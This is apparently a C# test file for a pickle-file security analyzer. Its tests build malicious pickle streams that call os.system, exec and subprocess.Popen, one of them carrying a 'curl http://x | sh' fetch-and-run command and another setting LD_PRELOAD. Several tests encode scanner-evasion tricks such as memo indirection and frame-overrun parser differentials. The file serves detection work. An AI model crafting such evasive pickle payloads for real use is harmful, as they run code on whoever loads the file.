using AtlasGuard.Formats.Pickle;
using static AtlasGuard.Formats.Tests.Pickle.PickleTestHelpers;

namespace AtlasGuard.Formats.Tests.Pickle;

/// <summary>The name-resolution and parser-differential bypasses of the reference (sections B and C).</summary>
public sealed class PickleAnalyzerBypassTests
{
    [Fact]
    public void Records_a_plain_global_call_with_its_arguments()
    {
        var bytes = PickleBuilder.Protocol(2).CallWithString("posix", "system", "curl http://x | sh").Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        var import = SingleImport(report, "posix", "system");
        Assert.True(import.IsResolved);
        Assert.True(PickleStreamReport.IsInvoked(import));
        var call = Assert.Single(report.Calls);
        Assert.Equal(PickleOpcode.Reduce, call.Opcode);
        Assert.Equal(PickleCalleeKind.Import, call.CalleeKind);
        Assert.Same(import, call.Callee);
        Assert.Equal(["'curl http://x | sh'"], call.Arguments);
    }

    [Fact]
    public void Resolves_StackGlobal_operands_through_memo()
    {
        var bytes = PickleBuilder.Protocol(4)
            .Unicode("os").Op(PickleOpcode.Memoize).Op(PickleOpcode.Pop)
            .Unicode("system").Put(7).Op(PickleOpcode.Pop)
            .Int1(1).Op(PickleOpcode.Pop)
            .Get(0).Get(7).Op(PickleOpcode.StackGlobal)
            .Unicode("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        var import = SingleImport(report, "os", "system");
        Assert.Equal(PickleOpcode.StackGlobal, import.Opcode);
        Assert.Equal(1, import.CallCount);
    }

    [Fact]
    public void Missing_memo_key_gives_an_unresolved_import_and_a_malformed_outcome()
    {
        var bytes = PickleBuilder.Protocol(4).Unicode("os").Get(9).Op(PickleOpcode.StackGlobal)
            .Unicode("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Malformed, report.Outcome);
        Assert.Contains("Memo value not found at index 9", report.Problem);
        var import = Assert.Single(report.Imports);
        Assert.False(import.IsResolved);
        Assert.Equal("os", import.Module);
        Assert.Contains("missing memo key 9", import.UnresolvedReason);
        Assert.True(import.AfterProblem);
        Assert.Single(report.Calls);
    }

    [Fact]
    public void Memo_value_of_the_wrong_type_gives_an_unresolved_import()
    {
        var bytes = PickleBuilder.Protocol(4).Op(PickleOpcode.None).Op(PickleOpcode.Memoize).Op(PickleOpcode.Pop)
            .Unicode("os").Get(0).Op(PickleOpcode.StackGlobal).Stop().ToArray();

        var report = Stream(bytes);

        var import = Assert.Single(report.Imports);
        Assert.False(import.IsResolved);
        Assert.Contains("not a str", import.UnresolvedReason);
        Assert.Equal(PickleOutcome.Malformed, report.Outcome);
        Assert.Equal("STACK_GLOBAL requires str", report.Problem);
    }

    [Theory]
    [InlineData("STRING")]
    [InlineData("BINSTRING")]
    [InlineData("SHORT_BINSTRING")]
    [InlineData("UNICODE")]
    public void Resolves_StackGlobal_operands_from_protocol_0_string_opcodes(string kind)
    {
        var builder = PickleBuilder.Protocol(4);
        foreach (var text in new[] { "os", "system" })
        {
            _ = kind switch
            {
                "STRING" => builder.String(text),
                "BINSTRING" => builder.BinString(text),
                "SHORT_BINSTRING" => builder.ShortBinString(text),
                _ => builder.Op(PickleOpcode.Unicode).Ascii(text + "\n"),
            };
        }

        var report = Stream(builder.Op(PickleOpcode.StackGlobal).Stop().ToArray());

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        Assert.True(SingleImport(report, "os", "system").IsResolved);
    }

    [Fact]
    public void Bytes_operand_for_StackGlobal_is_recorded_unresolved_not_dropped()
    {
        var bytes = PickleBuilder.Protocol(4).Op(PickleOpcode.ShortBinBytes).Raw(2).Ascii("os").Unicode("system")
            .Op(PickleOpcode.StackGlobal).Stop().ToArray();

        var report = Stream(bytes);

        var import = Assert.Single(report.Imports);
        Assert.False(import.IsResolved);
        Assert.Equal("system", import.Name);
        Assert.Equal(PickleOutcome.Malformed, report.Outcome);
    }

    [Fact]
    public void Keeps_dotted_names_as_given()
    {
        var bytes = PickleBuilder.Protocol(4).Unicode("pathlib").Unicode("os.system").Op(PickleOpcode.StackGlobal)
            .Unicode("id").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce).Stop().ToArray();

        var report = Stream(bytes);

        var import = SingleImport(report, "pathlib", "os.system");
        Assert.Equal(4, import.Protocol);
        Assert.Equal("pathlib.os.system", Assert.Single(report.Calls).CalleeDescription);
    }

    [Fact]
    public void Records_INST_with_its_arguments()
    {
        var bytes = new PickleBuilder().Op(PickleOpcode.Mark).String("echo pwned").Op(PickleOpcode.Inst)
            .Ascii("os\nsystem\n").Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        var call = Assert.Single(report.Calls);
        Assert.Equal(PickleOpcode.Inst, call.Opcode);
        Assert.Equal("os.system", call.CalleeDescription);
        Assert.Equal(["'echo pwned'"], call.Arguments);
        Assert.Equal(PickleOpcode.Inst, SingleImport(report, "os", "system").Opcode);
    }

    [Fact]
    public void Records_OBJ_even_when_its_result_is_discarded_with_POP()
    {
        var bytes = PickleBuilder.Protocol(2).Op(PickleOpcode.Mark).Global("builtins", "exec").String("import os")
            .Op(PickleOpcode.Obj).Op(PickleOpcode.Pop).Op(PickleOpcode.None).Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        var call = Assert.Single(report.Calls);
        Assert.Equal(PickleOpcode.Obj, call.Opcode);
        Assert.Equal("builtins.exec", call.CalleeDescription);
        Assert.Equal(["'import os'"], call.Arguments);
    }

    [Fact]
    public void Records_NEWOBJ_and_NEWOBJ_EX()
    {
        var bytes = PickleBuilder.Protocol(4)
            .Global("subprocess", "Popen").Unicode("sh").Op(PickleOpcode.Tuple1).Op(PickleOpcode.NewObj).Op(PickleOpcode.Pop)
            .Global("subprocess", "Popen").Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.EmptyDict).Op(PickleOpcode.NewObjEx)
            .Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        Assert.Equal([PickleOpcode.NewObj, PickleOpcode.NewObjEx], report.Calls.Select(c => c.Opcode));
        Assert.Equal(2, SingleImport(report, "subprocess", "Popen").CallCount);
        Assert.Equal("**dict(len=0)", report.Calls[1].Arguments[^1]);
    }

    [Fact]
    public void Records_BUILD_setstate_and_SETITEM_on_imported_objects()
    {
        var bytes = PickleBuilder.Protocol(2)
            .Global("os", "environ").Unicode("LD_PRELOAD").Unicode("/tmp/x.so").Op(PickleOpcode.SetItem)
            .Global("collections", "OrderedDict").Op(PickleOpcode.EmptyTuple).Op(PickleOpcode.Reduce)
            .Op(PickleOpcode.EmptyDict).Op(PickleOpcode.Build)
            .Op(PickleOpcode.Tuple2).Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        var setItem = Assert.Single(report.Calls, c => c.Opcode == PickleOpcode.SetItem);
        Assert.Equal(PickleCalleeKind.Import, setItem.CalleeKind);
        Assert.Equal("os.environ", setItem.Callee!.FullName);
        Assert.Equal(["'LD_PRELOAD'", "'/tmp/x.so'"], setItem.Arguments);
        var build = Assert.Single(report.Calls, c => c.Opcode == PickleOpcode.Build);
        Assert.Equal(PickleCalleeKind.Instance, build.CalleeKind);
        Assert.Equal("collections.OrderedDict", build.Callee!.FullName);
        Assert.False(PickleStreamReport.IsInvoked(SingleImport(report, "os", "environ")));
    }

    [Theory]
    [InlineData(PickleOpcode.Ext1, new byte[] { 0x42 }, 0x42)]
    [InlineData(PickleOpcode.Ext2, new byte[] { 0x34, 0x12 }, 0x1234)]
    [InlineData(PickleOpcode.Ext4, new byte[] { 0x78, 0x56, 0x34, 0x12 }, 0x12345678)]
    public void Records_extension_codes_as_unresolved_imports_and_calls(PickleOpcode opcode, byte[] code, long expected)
    {
        var bytes = PickleBuilder.Protocol(2).Op(opcode).Raw(code).Unicode("id").Op(PickleOpcode.Tuple1)
            .Op(PickleOpcode.Reduce).Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        var import = Assert.Single(report.Imports);
        Assert.False(import.IsResolved);
        Assert.Equal($"copyreg extension code {expected}", import.UnresolvedReason);
        Assert.Equal(opcode, import.Opcode);
        var call = Assert.Single(report.Calls);
        Assert.Equal(PickleCalleeKind.Extension, call.CalleeKind);
        Assert.Same(import, call.Callee);
        Assert.Contains(report.Anomalies, a => a.Kind == PickleAnomalyKind.ExtensionCode);
    }

    [Fact]
    public void Follows_the_file_reading_when_an_argument_overruns_its_frame()
    {
        // FRAME of 3 bytes: BINUNICODE whose 4-byte length starts inside the frame. A file-backed load drops the
        // rest of the frame and reads the length (0) after it, then runs GLOBAL os.system; pickle.loads (and
        // pickletools) read a 5-byte string instead.
        var bytes = PickleBuilder.Protocol(4).Frame(3).Op(PickleOpcode.BinUnicode).Raw(5, 0)
            .Raw(0, 0, 0, 0).Op(PickleOpcode.Pop).CallWithString("os", "system", "id").Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        Assert.Equal(1, SingleImport(report, "os", "system").CallCount);
        var overrun = Assert.Single(report.Anomalies, a => a.Kind == PickleAnomalyKind.FrameOverrun);
        Assert.Equal(11, overrun.Offset);
    }

    [Fact]
    public void Reports_the_in_memory_reading_of_an_overrun_frame_as_an_alternate_stream()
    {
        // In memory the 4-byte length is 0x05 then 0x00 0x00 0x00: a 5-byte string, then a hidden GLOBAL; the file
        // reading sees an empty string and a harmless None.
        var bytes = PickleBuilder.Protocol(4).Frame(3).Op(PickleOpcode.BinUnicode).Raw(5, 0)
            .Raw(0, 0, 0, 0).Op(PickleOpcode.None).Op(PickleOpcode.Stop).Ascii("A")
            .Op(PickleOpcode.Pop).CallWithString("os", "system", "id").Stop().ToArray();

        var report = Stream(bytes);

        Assert.Empty(report.Imports);
        var alternate = Assert.Single(report.NestedStreams);
        Assert.Equal(PickleStreamRole.AlternateContiguousFrames, alternate.Role);
        Assert.True(alternate.IsNested);
        Assert.Equal(1, SingleImport(alternate, "os", "system").CallCount);
    }

    [Fact]
    public void Accepts_INT_arguments_that_strtol_accepts_and_flags_them()
    {
        var bytes = new PickleBuilder().Op(PickleOpcode.Int).Ascii("0x10\n").Op(PickleOpcode.Int).Ascii(" 010\n")
            .Op(PickleOpcode.Int).Ascii("01\n").Op(PickleOpcode.Tuple3).Op(PickleOpcode.Pop)
            .Global("os", "system").Op(PickleOpcode.Long).Ascii("123L\n").Op(PickleOpcode.Tuple1).Op(PickleOpcode.Reduce)
            .Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        Assert.Equal(2, report.Anomalies.Count(a => a.Kind == PickleAnomalyKind.NonCanonicalInt));
        Assert.Equal(["123"], Assert.Single(report.Calls).Arguments);
    }

    [Theory]
    [InlineData("0x10", "16")]
    [InlineData("010", "8")]
    [InlineData("1_000", "1000")]
    [InlineData("-0", "False")]
    [InlineData("00", "False")]
    [InlineData("01", "True")]
    [InlineData("99999999999999999999", "99999999999999999999")]
    public void Decodes_INT_forms_like_the_C_unpickler(string text, string expected)
    {
        var bytes = new PickleBuilder().Global("m", "f").Op(PickleOpcode.Int).Ascii(text + "\n").Op(PickleOpcode.Tuple1)
            .Op(PickleOpcode.Reduce).Stop().ToArray();

        var report = Stream(bytes);

        Assert.Equal(PickleOutcome.Complete, report.Outcome);
        Assert.Equal([expected], Assert.Single(report.Calls).Arguments);
    }

    [Theory]
    [InlineData("0x")]
    [InlineData("09")]
    [InlineData("1__0")]
    [InlineData("abc")]
    public void Rejects_INT_forms_the_C_unpickler_rejects(string text)
    {
        var report = Stream(new PickleBuilder().Op(PickleOpcode.Int).Ascii(text + "\n").Stop().ToArray());

        Assert.Equal(PickleOutcome.Malformed, report.Outcome);
        Assert.Equal(0, report.ProblemOffset);
    }

    [Fact]
    public void Treats_only_newline_as_terminator_and_flags_odd_names()
    {
        var bytes = new PickleBuilder().Ascii("cos\r\nsystem\r\n").Op(PickleOpcode.Stop).ToArray();

        var report = Stream(bytes);

        var import = Assert.Single(report.Imports);
        Assert.Equal("os\r", import.Module);
        Assert.Equal("system\r", import.Name);
        Assert.Contains(report.Anomalies, a => a.Kind == PickleAnomalyKind.SuspiciousName);
    }

    [Fact]
    public void Reports_undecodable_bytes_in_GLOBAL_as_an_unresolved_import()
    {
        var bytes = new PickleBuilder().Op(PickleOpcode.Global).Raw(0x6f, 0xff, 0x73, 0x0a).Ascii("system\n").Stop().ToArray();

        var report = Stream(bytes);

        var import = Assert.Single(report.Imports);
        Assert.False(import.IsResolved);
        Assert.Equal(PickleOutcome.Malformed, report.Outcome);
    }

    [Fact]
    public void Reports_an_invalid_opcode_as_malformed_at_its_offset()
    {
        var report = Stream(PickleBuilder.Protocol(2).Op(PickleOpcode.None).Raw(0xff).Stop().ToArray());

        Assert.Equal(PickleOutcome.Malformed, report.Outcome);
        Assert.Equal(3, report.ProblemOffset);
        Assert.Equal("invalid load key, '\\xff'.", report.Problem);
        Assert.Equal(2, report.OpcodesBeforeProblem);
    }

    [Fact]
    public void Keeps_the_payload_of_a_stream_broken_after_REDUCE()
    {
        var bytes = PickleBuilder.Protocol(2).CallWithString("posix", "system", "id").Raw(0x00, 0x13, 0x37).ToArray();

        var file = File(bytes);

        Assert.Equal(PickleOutcome.Malformed, file.Outcome);
        var stream = Assert.Single(file.Streams);
        Assert.Equal(1, SingleImport(stream, "posix", "system").CallCount);
        Assert.False(stream.Calls[0].AfterProblem);
    }

    [Fact]
    public void Scans_every_stacked_pickle()
    {
        var bytes = PickleBuilder.Protocol(2).Op(PickleOpcode.None).Stop()
            .Proto(2).Op(PickleOpcode.EmptyDict).Stop()
            .CallWithString("os", "system", "id").Stop().ToArray();

        var file = File(bytes);

        Assert.Equal(3, file.Streams.Count);
        Assert.Equal(PickleOutcome.Complete, file.Outcome);
        Assert.Equal("os.system", Assert.Single(file.AllImports).FullName);
        Assert.Equal(0, file.TrailingBytes);
    }

    [Fact]
    public void A_legacy_torch_magic_built_by_eval_is_not_trusted()
    {
        var bytes = PickleBuilder.Protocol(2).CallWithString("builtins", "eval", "0x1950a86a20f9469cfc6c").Stop()
            .Proto(2).Raw(0x4d, 0xe9, 0x03).Stop()
            .Proto(2).Op(PickleOpcode.EmptyDict).Stop()
            .CallWithString("os", "system", "id").Stop().ToArray();

        var file = File(bytes);

        Assert.Equal(PickleFileLayout.Generic, file.Layout);
        Assert.Equal(4, file.Streams.Count);
        Assert.Contains(file.AllCalls, c => c.CalleeDescription == "builtins.eval");
        Assert.Contains(file.AllCalls, c => c.CalleeDescription == "os.system");
    }
}
